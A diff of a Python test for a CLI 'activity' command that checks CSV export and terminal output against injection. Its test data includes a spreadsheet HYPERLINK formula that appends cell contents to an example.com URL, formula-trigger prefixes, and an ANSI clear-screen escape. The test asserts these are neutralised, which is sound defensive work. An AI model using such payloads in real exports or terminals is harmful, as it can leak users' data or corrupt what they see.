@@ -149,13 +149,18 @@ def test_the_command_shows_a_table(fake: Fake, shell: Shell) -> None:
     assert answer(shell("activity", "acme", "--model", "none", "--json")) == []
 
 
-def test_a_spreadsheet_finds_no_formula_in_it(fake: Fake, shell: Shell) -> None:
+def test_neither_spreadsheet_nor_terminal_is_commanded_by_it(fake: Fake, shell: Shell) -> None:
     evil = '=HYPERLINK("https://example.com/?"&A1,"click")'
     with fake.client() as client:
         described = Attributes(agent=evil, topic="@SUM(1)", user="-1\n+1", model="\t=1")
         client.charge("acme", hold_id="@h", amount=1, attributes=described, labels={"k": "=1"})
+    described = Attributes(agent="\x1b[2J", topic="a\nb")
+    with fake.client() as client:
+        client.charge("acme", hold_id="z", amount=1, attributes=described)
+    table = shell("activity", "acme").stdout
+    assert ("\x1b" in table, table.count("\n"), "a\ufffdb" in table) == (False, 4, True)
     rows = list(csv.DictReader(io.StringIO(shell("activity", "acme", "--csv").stdout)))
-    row = rows[-1]
+    row = rows[-2]
     told = [row[name] for name in ("agent", "topic", "user", "model", "hold_id", "labels")]
     assert told == [f"'{evil}", "'@SUM(1)", "'-1\n+1", "'\t=1", "'@h", '{"k": "=1"}']
     assert (row["amount"], row["settled"], row["kind"]) == ("-1", "99", "CHARGE")
